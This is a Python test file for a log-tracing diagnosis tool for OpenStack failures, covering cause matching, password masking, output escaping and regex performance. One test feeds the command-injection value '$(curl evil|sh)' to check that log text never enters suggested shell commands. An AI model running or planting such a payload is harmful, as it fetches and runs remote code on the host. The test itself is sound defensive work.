"""Causes: what counts as one, what does not, and what is said of it. Log lines are composed."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

import haystack
from haystack.access import access
from haystack.library.wording import fill, fill_command
from haystack.report import json_report, text
from tests.making import event, fold_all, oslo, stamp, tree

REQUEST = "8d06afd5-b7e8-4b4c-a6a5-6ed4d2b2ee6e"
OTHER = "11111111-2222-4333-8444-555555555555"
API = '127.0.0.1 "POST /v2.1/servers HTTP/1.1" status: 202 len: 842 time: 0.5000000'
FULL = "rsyslogd: file '/var/log/syslog'[8] write error - OS error: No space left on device [v8.2302.0]"


def failed_on(node: str, root: Path, **more: list[str]) -> haystack.pipeline.Diagnosis:  # type: ignore[name-defined]
    """A server that could not be started on a node for a reason no pattern knows."""
    compute = event(3, "Instance failed to spawn: odd.Odd: it is odd", REQUEST, 3, last="odd.Odd: it is odd")
    logs = {"c1__nova_api": [oslo(1, API, REQUEST)], f"{node}__nova_compute": compute, **more}
    return haystack.trace([REQUEST], [tree(root, **logs)])


@pytest.mark.parametrize(("node", "counts"), [("comp10", True), ("comp1", False), ("qzx9", False)])
def test_a_fault_of_a_node_explains_only_what_went_there(tmp_path: Path, node: str, counts: bool) -> None:
    line = f"{stamp(2)[:19].replace(' ', 'T')}.000000+00:00 {node} {FULL}"
    found = failed_on("comp10", tmp_path, **{f"{node}__syslog": [line]})
    full = [c for c in found.candidates if c.pattern.id == "host-disk-full"]
    assert bool(full and full[0].confidence >= 0.5) == counts


STOP = oslo(0, "Caught SIGTERM, stopping children", level="INFO", logger="oslo_service.service")
REFUSED = (
    "Unexpected exception in API method: keystoneauth1.exceptions.connection.ConnectFailure: Unable to establish"
    " connection to http://c1:9696/v2.0/networks: [Errno 111] ECONNREFUSED"
)


@pytest.mark.parametrize(
    ("logged", "stopped"),
    [([], True), ([oslo(36, "Logging enabled!")], False), ([oslo(-60, "Logging enabled!")], True)],
    ids=["never again", "back after the failure", "started before"],
)
def test_who_came_back_did_not_stay_away(tmp_path: Path, logged: list[str], stopped: bool) -> None:
    server = sorted([STOP, *logged])
    api = [oslo(9, REFUSED, REQUEST, "ERROR"), oslo(9, API.replace("202", "500"), REQUEST)]
    found = haystack.trace([REQUEST], [tree(tmp_path, c1__neutron_server=server, c1__nova_api=api)])
    assert ("neutron-server-stopped" in [c.pattern.id for c in found.candidates]) == stopped


def test_an_old_fault_counts_less_than_a_fresh_one(tmp_path: Path) -> None:
    refused = "(403) ACCESS_REFUSED - Login was refused using authentication mechanism AMQPLAIN"
    api = [oslo(300, REFUSED, REQUEST, "ERROR"), oslo(300, API.replace("202", "500"), REQUEST)]
    confidence = []
    for age in (290, 10):
        old = [oslo(300 - age, f"Failed to publish message: {refused}", level="ERROR", pid=9)]
        found = haystack.trace([REQUEST], [tree(tmp_path / str(age), c1__nova_api=api, c2__nova_conductor=old)])
        confidence += [c.confidence for c in found.candidates if c.pattern.id == "rabbitmq-login-refused"] or [0.0]
    assert confidence[0] < confidence[1]


def test_each_request_asked_for_is_judged(tmp_path: Path) -> None:
    """One that worked does not hide one that failed, and one that is nowhere is named."""
    api = [oslo(1, API, REQUEST), oslo(2, API, OTHER)]
    compute = [oslo(3, "No space left on device: it is full", REQUEST, "ERROR")]
    compute += [oslo(9, "Took 5.40 seconds to build instance.", OTHER)]
    root = tree(tmp_path, c1__nova_api=api, n1__nova_compute=compute)
    found = haystack.trace([OTHER, REQUEST, "deadbeef-dead-4ead-8ead-deadbeefdead"], [root])
    assert found.outcome is not None
    assert found.outcome.failed
    assert "no log line has deadbeef-dead-4ead-8ead-deadbeefdead" in text.plain(found)


def test_a_read_is_over_with_its_answer(tmp_path: Path) -> None:
    """keystonemiddleware logs later calls under the id of the one before."""
    api = [oslo(1, API.replace("POST", "GET").replace("202", "200"), REQUEST), *event(9, "Unable to", REQUEST, 2)]
    found = haystack.trace([REQUEST], [tree(tmp_path, c1__nova_api=api)])
    assert (found.verdict, found.candidates) == ("healthy", ())


def test_a_node_asked_for_is_not_widened_by_clocks() -> None:
    root = Path(__file__).parents[2] / "fixtures" / "glance_file_missing__skew"
    found = haystack.trace(["req-26955a25-9419-4a19-81b4-fbab2f7f8816"], [root], nodes=["controller1"])
    assert found.trace is not None
    assert {record.origin.node for record in found.trace.records} == {"controller1"}


# --- what is said of it

SECRET = "Sup3rS3cretPassw0rd_very_long_one_indeed"


def test_no_secret_is_shown_for_being_cut(tmp_path: Path) -> None:
    url = f"mysql+pymysql://nova:{SECRET}@controller1/nova"
    lines = [oslo(n, "x" * n + f" cannot connect to {url}", REQUEST, "ERROR") for n in range(1, 90, 4)]
    lines += [oslo(99, "y" * 4080 + f" {url}", REQUEST, "ERROR")]
    found = haystack.trace([REQUEST], [tree(tmp_path, c1__nova_conductor=lines)])
    for answer in (text.plain(found, 80), text.plain(found, 200), json_report.render(found)):
        assert "Sup3r" not in answer
        assert "***" in answer


def test_json_holds_no_control_characters(tmp_path: Path) -> None:
    nasty = "a\x9b31mb\x7fc\u202ed\u2028e"
    found = haystack.trace([REQUEST], [tree(tmp_path, c1__nova_api=[oslo(1, f"{nasty} text", REQUEST, "ERROR")])])
    answer = json_report.render(found)
    assert answer.isascii() or all(c.isprintable() or c == "\n" for c in answer)
    assert nasty in json.loads(answer)["timeline"][0]["message"]


def test_log_text_never_becomes_part_of_a_command() -> None:
    evil = {"host": "$(curl evil|sh)", "port": "5672"}
    assert fill_command("nc -zv {host} {port}", evil) == "nc -zv <host> 5672"
    assert fill_command("ip route get {missing}", evil) == "ip route get <missing>"
    assert fill("cannot reach {host}", evil) == "cannot reach $(curl evil|sh)"


FILLED = [
    ("down[ on {host}]", {"host": "c1"}, "down on c1"),
    ("down[ on {host}]", {}, "down"),
    ("[placement] of {host}", {"host": "c1"}, "[placement] of c1"),
    ("{x} and {y}", {"x": "{y}", "y": "1"}, "{y} and 1"),
    ("is {x} {z}", {"x": '{"k": 1}', "z": "2"}, 'is {"k": 1} 2'),
]


@pytest.mark.parametrize(("template", "captures", "filled"), FILLED)
def test_titles_are_filled_once(template: str, captures: dict[str, str], filled: str) -> None:
    assert fill(template, captures) == filled


def test_hostile_lines_take_no_long_time() -> None:
    began = time.monotonic()
    for line in ("status: " + "GET /a" * 10_000, "HTTP" + " POST /" * 9000, " 200 1 a b cccc 1/1 1/1 " * 2500):
        (record,) = fold_all([oslo(1, line)])
        for _ in range(20):
            access(record)
    assert time.monotonic() - began < 2
